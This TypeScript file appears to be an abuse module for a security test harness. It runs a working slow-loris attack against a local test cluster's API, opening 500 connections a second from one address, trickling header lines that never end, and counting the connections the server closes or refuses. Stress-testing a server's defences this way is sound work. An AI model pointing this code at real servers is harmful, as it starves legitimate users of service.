// Attack: slow-loris. One client address (127.0.0.2) opens many connections to shard 0's API and
// sends each request's headers a line at a time, never finishing them, to hold sockets (and starve
// other clients of connections). Counts the connections opened.
import { connect, type Socket } from 'node:net';
import { sleep, type SecCluster } from '../../test/security/harness.js';
import type { AbuseModule } from '../bench-abuse.js';

export interface SlowSockets {
  sockets: Socket[];
  /** How many of them the server has closed so far. */
  closed(): number;
  /** How many it closed without a word (refused at connection; a timed-out request gets a 408 first). */
  refused(): number;
  /** Closes what is left. */
  stop(): void;
}

/** Opens `n` connections from `localAddress` to the API at `url`, each sending a header line every `everyMs`. */
export async function slowHeaderSockets(url: string, n: number, o: { localAddress?: string; everyMs?: number } = {}): Promise<SlowSockets> {
  const u = new URL(url);
  const sockets: Socket[] = [];
  let closed = 0;
  let refused = 0;
  let stopped = false;
  for (let i = 0; i < n; i++) {
    const s = connect({ host: u.hostname, port: Number(u.port), localAddress: o.localAddress ?? '127.0.0.2' });
    let answered = false;
    s.on('error', () => undefined);
    s.on('data', () => (answered = true));
    s.once('close', () => {
      closed++;
      if (!answered && !stopped) refused++;
    });
    s.once('connect', () => s.write(`GET /v1/health HTTP/1.1\r\nHost: ${u.host}\r\n`));
    sockets.push(s);
  }
  // keep every socket busy with one more header line now and then (never the blank line that ends them)
  void (async () => {
    for (let k = 0; !stopped; k++) {
      await sleep(o.everyMs ?? 1000);
      for (const s of sockets) if (!s.destroyed && s.writable) s.write(`X-Slow-${k}: ${'a'.repeat(8)}\r\n`);
    }
  })();
  // every socket connected (or already closed), within a bound
  const settled = sockets.map((s) => new Promise<void>((resolve) => {
    s.once('connect', () => resolve());
    s.once('close', () => resolve());
  }));
  await Promise.race([Promise.all(settled), sleep(5000)]);
  return {
    sockets,
    closed: () => closed,
    refused: () => refused,
    stop() {
      stopped = true;
      for (const s of sockets) s.destroy();
    },
  };
}

const mod: AbuseModule = {
  name: 'http-slowloris',
  what: 'one address opens 500 connections to shard 0 every second and trickles header lines, never ending them',
  target: '0',
  async run(c: SecCluster, seconds: number) {
    const all: SlowSockets[] = [];
    const end = Date.now() + seconds * 1000;
    let opened = 0;
    while (Date.now() < end) {
      all.push(await slowHeaderSockets(c.url('0'), 500));
      opened += 500;
      await sleep(800);
    }
    for (const s of all) s.stop();
    return opened;
  },
};
export default mod;
